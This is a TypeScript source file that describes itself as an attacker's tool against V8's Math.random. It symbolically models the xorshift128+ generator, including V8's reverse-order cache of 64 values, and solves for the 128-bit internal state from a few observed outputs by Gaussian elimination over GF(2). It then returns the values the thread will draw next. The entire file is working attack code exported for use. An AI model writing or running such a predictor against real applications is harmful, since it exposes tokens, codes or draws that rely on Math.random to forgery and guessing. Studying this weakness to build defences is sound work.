/**
 * An attacker's tool against V8's `Math.random`: one xorshift128+ per thread, each output the top
 * 52 bits of the generator's first state word, served from a cache of 64 in reverse order. Every
 * output bit is linear (over GF(2)) in the 128 bits of state, so a handful of consecutive outputs
 * give the state by Gaussian elimination, and the state gives every value the thread draws next.
 */
const MASK64 = (1n << 64n) - 1n;
/** How far before the observed outputs the solved state is placed (the rest of their cache block). */
const BEFORE = 64;
/** Outputs generated from the solved state: the observed ones and the next two cache blocks and more. */
const SPAN = BEFORE + 256;

type Word = bigint[]; // 64 bits, each a mask over the 128 unknown state bits

function shl(w: Word, k: number): Word {
  return w.map((_, i) => (i >= k ? w[i - k] : 0n));
}
function shr(w: Word, k: number): Word {
  return w.map((_, i) => (i + k < 64 ? w[i + k] : 0n));
}
function xor(a: Word, b: Word): Word {
  return a.map((x, i) => x ^ b[i]);
}

/** V8's XorShift128 step on (state0, state1), symbolic or numeric. */
function stepSymbolic([s0, s1]: [Word, Word]): [Word, Word] {
  let a = s0;
  const b = s1;
  a = xor(a, shl(a, 23));
  a = xor(a, shr(a, 17));
  a = xor(a, b);
  a = xor(a, shr(b, 26));
  return [b, a];
}
function stepNumeric([s0, s1]: [bigint, bigint]): [bigint, bigint] {
  let a = s0;
  const b = s1;
  a ^= (a << 23n) & MASK64;
  a ^= a >> 17n;
  a ^= b;
  a ^= b >> 26n;
  return [b, a];
}

/** The 52 bits an output shows: V8's ToDouble puts state0 >> 12 in the mantissa of [1, 2), minus 1. */
function mantissa(value: number): bigint {
  return BigInt(Math.round(value * 2 ** 52));
}

/**
 * Solves the generator's state from `observed` (consecutive outputs of one thread, within one
 * cache block) and returns the mantissas of the outputs around them (the rest of their block and
 * the next blocks), or null when no xorshift128+ state explains them.
 */
export function predictFrom(observed: number[]): Set<bigint> | null {
  const unknown: [Word, Word] = [
    Array.from({ length: 64 }, (_, i) => 1n << BigInt(i)),
    Array.from({ length: 64 }, (_, i) => 1n << BigInt(64 + i)),
  ];
  const symbolic: Word[] = [];
  let state = unknown;
  for (let n = 0; n < BEFORE + observed.length; n++) {
    state = stepSymbolic(state);
    symbolic.push(state[0]);
  }
  // A cache block is served last-generated first: the first output observed is the latest generated.
  const rows: bigint[] = [];
  observed.forEach((value, i) => {
    const word = symbolic[BEFORE + observed.length - 1 - i];
    const bits = mantissa(value);
    for (let t = 0; t < 52; t++) rows.push(word[12 + t] | (((bits >> BigInt(t)) & 1n) << 128n));
  });
  const solution = solve(rows);
  if (solution === null) return null;
  let numeric: [bigint, bigint] = [solution & MASK64, solution >> 64n];
  const seen = new Set<bigint>();
  for (let n = 0; n < SPAN; n++) {
    numeric = stepNumeric(numeric);
    seen.add(numeric[0] >> 12n);
  }
  // The observed outputs must come out of the state: else it is no xorshift128+ stream.
  return observed.every((value) => seen.has(mantissa(value))) ? seen : null;
}

/** Gaussian elimination over GF(2): 128 unknowns, bit 128 the right-hand side; null if inconsistent or short. */
function solve(input: bigint[]): bigint | null {
  const rows = [...input];
  const pivots: { bit: number; row: bigint }[] = [];
  for (let bit = 0; bit < 128; bit++) {
    const mask = 1n << BigInt(bit);
    const at = rows.findIndex((r) => (r & mask) !== 0n);
    if (at < 0) return null;
    const pivot = rows[at];
    rows.splice(at, 1);
    for (let i = 0; i < rows.length; i++) if ((rows[i] & mask) !== 0n) rows[i] ^= pivot;
    for (const p of pivots) if ((p.row & mask) !== 0n) p.row ^= pivot;
    pivots.push({ bit, row: pivot });
  }
  const rhs = 1n << 128n;
  if (rows.some((r) => r !== 0n)) return null;
  let x = 0n;
  for (const { bit, row } of pivots) if ((row & rhs) !== 0n) x |= 1n << BigInt(bit);
  return x;
}
